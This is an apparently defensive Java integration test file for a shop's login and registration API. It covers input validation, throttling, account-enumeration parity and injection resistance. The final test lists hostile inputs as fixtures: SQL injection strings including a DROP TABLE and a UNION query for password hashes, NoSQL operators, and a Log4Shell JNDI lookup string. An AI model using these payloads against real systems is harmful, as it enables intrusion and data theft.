package com.example.shop.identity;

import static org.assertj.core.api.Assertions.assertThat;

import com.example.shop.support.Api;
import com.example.shop.support.ServiceTest;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.Test;

/** Registration and login: clear refusals, no account enumeration by answer, throttling that holds under a burst. */
class LoginIT extends ServiceTest {

    private long accounts() {
        return jdbc.sql("select count(*) from account").query(Long.class).single();
    }

    @Test
    void registerThenLogIn() {
        String email = unique("Reg").toLowerCase() + "@Example.test";
        Api.Response registered = anonymous.post("/auth/register", Api.credentials(email, "a long enough password"));
        assertThat(registered.status()).as(registered.toString()).isEqualTo(201);
        assertThat(registered.json().path("email").asText()).isEqualTo(email.toLowerCase());
        String stored = jdbc.sql("select password_hash from account where id = :id::uuid")
                .param("id", registered.json().path("accountId").asText())
                .query(String.class)
                .single();
        assertThat(stored).startsWith("$argon2id$").doesNotContain("a long enough password");

        Api.Response login = anonymous.login(email.toUpperCase(), "a long enough password");
        assertThat(login.status()).as(login.toString()).isEqualTo(200);
        assertThat(login.json().path("tokenType").asText()).isEqualTo("Bearer");
        assertThat(login.json().path("expiresIn").asLong()).isEqualTo(900);

        Api.Response again = anonymous.post("/auth/register", Api.credentials(email, "another long password"));
        assertThat(again.status()).isEqualTo(409);
        assertThat(again.problemType()).isEqualTo("/problems/email-taken");
    }

    @Test
    void badRegistrationsAreRefusedWithoutWriting() {
        long before = accounts();
        for (String body : List.of(
                Api.credentials("not-an-address", "a long enough password"),
                Api.credentials(unique("short").toLowerCase() + "@example.test", "short"),
                Api.credentials(unique("ctl").toLowerCase() + "@example.test", "a long enough\u0000password"),
                Api.credentials("same@example.test", "same@example.test"),
                "{\"email\":\"x@example.test\"}",
                "{\"email\":{\"$gt\":\"\"},\"password\":\"a long enough password\"}",
                "{\"email\":\"x@example.test\",\"password\":\"a long enough password\",\"role\":\"ADMIN\"}")) {
            Api.Response answer = anonymous.post("/auth/register", body);
            assertThat(answer.status()).as(body + " -> " + answer).isEqualTo(400);
            assertThat(answer.isProblem()).isTrue();
        }
        assertThat(accounts()).isEqualTo(before);
    }

    @Test
    void emailAddressesAreCheckedWhereverTheyEnter() {
        long before = accounts();
        String longest = "a".repeat(64) + "@" + "b".repeat(63) + "." + "c".repeat(63) + "." + "d".repeat(56) + ".test";
        assertThat(longest).hasSize(254);
        for (String address : List.of(
                "",
                " ",
                "@example.test",
                "ann@",
                "ann",
                "ann@example",
                "ann@@example.test",
                "ann@exa mple.test",
                "ann..b@example.test",
                ".ann@example.test",
                "ann@-example.test",
                "ann@example..test",
                "\"ann\"@example.test",
                "ann@[127.0.0.1]",
                "a".repeat(65) + "@example.test",
                "x" + longest,
                "ann\u00e9@example.test",
                "ann@example.test\u0000")) {
            Api.Response registration =
                    anonymous.post("/auth/register", Api.credentials(address, "a long enough password"));
            assertThat(registration.status())
                    .as("'" + address + "' -> " + registration)
                    .isEqualTo(400);
            assertThat(registration.problemType()).isEqualTo("/problems/validation");
            assertThat(registration.json().path("errors").get(0).path("field").asText())
                    .isEqualTo("email");
            Api.Response login = anonymous.login(address, "a long enough password");
            assertThat(login.status()).as("'" + address + "' -> " + login).isEqualTo(400);
            assertThat(login.json().path("errors").get(0).path("field").asText())
                    .isEqualTo("email");
        }
        assertThat(accounts()).isEqualTo(before);

        // accepted in normal form: without surrounding white space, in lower case, up to 254 characters
        String local = unique("Trim");
        Api.Response registered = anonymous.post(
                "/auth/register", Api.credentials("  " + local + "@Example.TEST\t", "a long enough password"));
        assertThat(registered.status()).as(registered.toString()).isEqualTo(201);
        assertThat(registered.json().path("email").asText()).isEqualTo(local.toLowerCase() + "@example.test");
        assertThat(anonymous
                        .login(" " + local.toUpperCase() + "@EXAMPLE.test ", "a long enough password")
                        .status())
                .isEqualTo(200);
        assertThat(anonymous
                        .post("/auth/register", Api.credentials(longest, "a long enough password"))
                        .status())
                .isEqualTo(201);
    }

    @Test
    void aWrongPasswordAndAnUnknownAddressGetTheSameAnswer() {
        Customer customer = newCustomer();
        Api.Response wrongPassword = anonymous.login(customer.email(), "not the password at all");
        Api.Response unknown =
                anonymous.login(unique("nobody").toLowerCase() + "@example.test", "not the password at all");
        assertThat(wrongPassword.status()).isEqualTo(401);
        assertThat(unknown.status()).isEqualTo(401);
        assertThat(wrongPassword.jsonWithout("instance")).isEqualTo(unknown.jsonWithout("instance"));
    }

    @Test
    void aBurstOfGuessesGetsExactlyTheAllowedAttemptsThenTheAddressIsLocked() throws Exception {
        Customer customer = newCustomer();
        int guesses = 20;
        int allowed = 5; // shop.security.login.max-failures
        CountDownLatch start = new CountDownLatch(1);
        ExecutorService pool = Executors.newFixedThreadPool(guesses);
        List<Future<Api.Response>> answers = new ArrayList<>();
        for (int i = 0; i < guesses; i++) {
            int guess = i;
            answers.add(pool.submit(() -> {
                start.await();
                return anonymous.login(customer.email(), "wrong guess number " + guess);
            }));
        }
        start.countDown();
        int wrong = 0;
        int locked = 0;
        for (Future<Api.Response> answer : answers) {
            Api.Response response = answer.get();
            if (response.status() == 401) {
                wrong++;
            } else {
                assertThat(response.status()).as(response.toString()).isEqualTo(429);
                assertThat(response.problemType()).isEqualTo("/problems/login-locked");
                assertThat(response.headers().firstValue("Retry-After")).isPresent();
                locked++;
            }
        }
        pool.shutdown();
        assertThat(wrong).isEqualTo(allowed);
        assertThat(locked).isEqualTo(guesses - allowed);
        // locked means locked, even for the right password
        assertThat(anonymous.login(customer.email(), customer.password()).status())
                .isEqualTo(429);
    }

    @Test
    void injectionPayloadsInLoginAndRegistrationAreJustWrongValues() {
        Customer customer = newCustomer();
        long before = accounts();
        List<String> payloads = List.of(
                "' OR '1'='1",
                "' OR 1=1 --",
                "admin@shop.test' --",
                "\" OR \"\"=\"",
                "'; DROP TABLE account; --",
                "x' UNION SELECT password_hash FROM account --",
                customer.email() + "' --",
                "{\"$gt\": \"\"}",
                "{\"$ne\": null}",
                "'; sleep(5); --",
                "1' AND pg_sleep(5) --",
                ".*",
                "${jndi:ldap://x/a}",
                "%27%20OR%201=1");
        for (String payload : payloads) {
            for (String body : List.of(
                    Api.credentials(payload, "whatever password"),
                    Api.credentials(customer.email(), payload),
                    Api.credentials(payload, payload))) {
                Api.Response answer = anonymous.post("/auth/login", body);
                assertThat(answer.status()).as(body + " -> " + answer).isIn(400, 401, 429);
                assertThat(answer.isProblem()).isTrue();
                assertThat(answer.rawBody())
                        .doesNotContainIgnoringCase("sql")
                        .doesNotContainIgnoringCase("exception")
                        .doesNotContain("accessToken");
            }
            Api.Response registration =
                    anonymous.post("/auth/register", Api.credentials(payload, "a long enough password"));
            assertThat(registration.status())
                    .as(payload + " -> " + registration)
                    .isEqualTo(400);
        }
        // operators as JSON values are not strings: refused before any query
        Api.Response operator = anonymous.post("/auth/login", "{\"email\":{\"$gt\":\"\"},\"password\":{\"$gt\":\"\"}}");
        assertThat(operator.status()).isEqualTo(400);
        assertThat(accounts()).isEqualTo(before);
        assertThat(jdbc.sql("select count(*) from information_schema.tables where table_name = 'account'")
                        .query(Long.class)
                        .single())
                .isEqualTo(1);
    }
}
